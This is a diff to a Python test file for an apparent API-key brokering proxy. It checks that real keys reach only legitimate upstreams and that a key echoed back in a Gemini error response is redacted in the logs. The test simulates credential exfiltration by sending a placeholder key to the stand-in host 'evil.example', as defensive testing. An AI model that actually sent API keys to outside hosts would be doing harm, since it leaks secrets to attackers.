@@ -176,22 +176,26 @@ def broker(capsem_home, monkeypatch):
 
 
 def request(
-    addon: Capsem, host: str, path: str = "/v1/messages", headers: dict | None = None
+    addon: Capsem, host: str, path: str = "/v1/messages", headers: dict | None = None, answer: bytes = b"{}"
 ) -> http.HTTPFlow:
     req = tutils.treq(host=host, port=443, scheme="https", method=b"POST", path=path.encode(), content=b"{}",
                       headers=http.Headers(content_type="application/json", **(headers or {})))  # fmt: skip
     flow = tflow.tflow(req=req, resp=False)
     addon.requestheaders(flow)
     addon.request(flow)
-    flow.response = tutils.tresp(content=b'{"error": "no"}')
+    flow.response = tutils.tresp(content=answer)
     addon.response(flow)
     return flow
 
 
 def test_the_real_key_goes_upstream_and_only_the_placeholder_is_recorded(broker, capsem_home):
     sent = request(broker, "api.anthropic.com", headers={"x_api_key": "capsem-placeholder-anthropic"})
+    echoed = (
+        b'{"error": {"message": "API key AIza-real-gemini-key/0000000000000 not valid"}}'  # no known shape
+    )
     keyed = request(broker, "generativelanguage.googleapis.com",
-                    "/v1beta/models/gemini-2.5-flash:generateContent?alt=sse&key=capsem-placeholder-gemini")  # fmt: skip
+                    "/v1beta/models/gemini-2.5-flash:generateContent?alt=sse&key=capsem-placeholder-gemini",
+                    answer=echoed)  # fmt: skip
     stolen = request(broker, "evil.example", headers={"x_api_key": "capsem-placeholder-anthropic"})
     broker.done()
     assert sent.request.headers["x-api-key"] == REAL_KEY
@@ -212,6 +216,8 @@ def test_the_real_key_goes_upstream_and_only_the_placeholder_is_recorded(broker,
     ]  # fmt: skip
     (query,) = rows(db, "SELECT query FROM net_events WHERE domain LIKE 'generative%'")
     assert query["query"].startswith("alt=sse&key=hash:")  # as the agent sent it: the placeholder, hashed
+    (preview,) = rows(db, "SELECT response_body_preview FROM net_events WHERE domain LIKE 'generative%'")
+    assert "API key [redacted hash:" in preview["response_body_preview"]  # the scrubber knew the real value
     for path in capsem_home.rglob("*"):
         if path.is_file():
             data = path.read_bytes()
